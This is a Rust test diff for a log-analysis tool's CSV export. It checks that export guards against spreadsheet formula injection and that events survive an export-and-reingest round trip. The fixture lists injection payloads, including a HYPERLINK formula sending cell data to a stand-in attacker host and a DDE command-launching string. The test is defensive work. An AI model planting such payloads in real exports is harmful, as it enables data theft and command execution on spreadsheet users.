@@ -186,3 +186,65 @@ fn case_info_cuts_a_long_path_between_characters() {
     let info = ok(&["case", "info", "--case", "c"], p);
     assert!(info.contains("  …") && info.contains("東京ログ.jsonl  jsonl"), "{info}");
 }
+
+/// Export's JSON lines without where each event was read from (a re-ingest reads another file).
+fn events_of(jsonl: &str) -> Vec<serde_json::Value> {
+    let mut v: Vec<serde_json::Value> = jsonl
+        .lines()
+        .map(|l| {
+            let mut e: serde_json::Value = serde_json::from_str(l).unwrap();
+            let o = e.as_object_mut().unwrap();
+            o.remove("evidence");
+            o.remove("format");
+            e
+        })
+        .collect();
+    v.sort_by_key(|e| e.to_string());
+    v
+}
+
+#[test]
+fn csv_export_guards_formulas_and_keeps_every_event_through_ingest() {
+    let d = tempfile::tempdir().unwrap();
+    let p = d.path();
+    let js = |s: &str| serde_json::to_string(s).unwrap();
+    // names a spreadsheet would run, and names holding line breaks
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(1)",
+        "\tadmin",
+        "\r=2",
+        "'quoted",
+        "two\nlines",
+        "cr\rlf\r\nend\\",
+    ];
+    let mut ev = events();
+    for (i, name) in hostile.iter().enumerate() {
+        ev.push_str(&format!(
+            "{{\"time\":\"2019-09-03T10:{i:02}:00Z\",\"src_host\":{},\"dst_host\":\"th-app-02\",\"user\":{},\"auth\":\"NTLM\",\"logon_type\":\"network\",\"outcome\":\"success\",\"orientation\":\"logon\",\"format\":\"jsonl\"}}\n",
+            js(name),
+            js(name)
+        ));
+    }
+    std::fs::write(p.join("events.jsonl"), &ev).unwrap();
+    ok(&["ingest", "events.jsonl", "--case", "c"], p);
+    let csv = ok(&["export", "--case", "c", "--format", "csv"], p);
+    // one line per event plus the header; no field a spreadsheet takes for a formula
+    assert_eq!(csv.lines().count(), 65 + hostile.len() + 1, "{csv}");
+    for line in csv.lines() {
+        for field in line.split(',') {
+            let f = field.trim_start_matches('"');
+            assert!(!f.starts_with(['=', '+', '-', '@', '\t', '\r']), "{field:?} in {line}");
+        }
+    }
+    std::fs::write(p.join("events.csv"), &csv).unwrap();
+    let o = hopscope(&["ingest", "events.csv", "--format", "csv", "--case", "c2"], p);
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(o.status.success() && err.contains("no problems"), "{err}");
+    let before = events_of(&ok(&["export", "--case", "c"], p));
+    let after = events_of(&ok(&["export", "--case", "c2"], p));
+    assert_eq!(before.len(), 65 + hostile.len());
+    assert_eq!(before, after, "export → ingest → export keeps every event exactly");
+}
